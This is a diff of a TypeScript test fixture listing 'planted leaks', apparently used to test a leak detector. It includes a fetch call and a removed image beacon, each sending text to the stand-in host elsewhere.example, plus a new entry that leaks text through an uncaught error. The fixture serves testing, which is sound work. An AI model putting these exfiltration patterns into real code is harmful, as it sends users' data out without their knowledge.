@@ -125,11 +125,12 @@ export const plantedLeaks: readonly PlantedLeak[] = [
     plant: (text) => fetch(`//elsewhere.example/${text}`).catch(() => 0),
   },
   {
-    leak: 'an image of somebody else',
+    leak: 'an error that nobody caught',
     sink: 'console',
-    plant: (text) => {
-      new Image().src = `//elsewhere.example/${text}`;
-    },
+    plant: (text) =>
+      setTimeout(() => {
+        throw new Error(text);
+      }),
   },
   {
     leak: 'the memory',
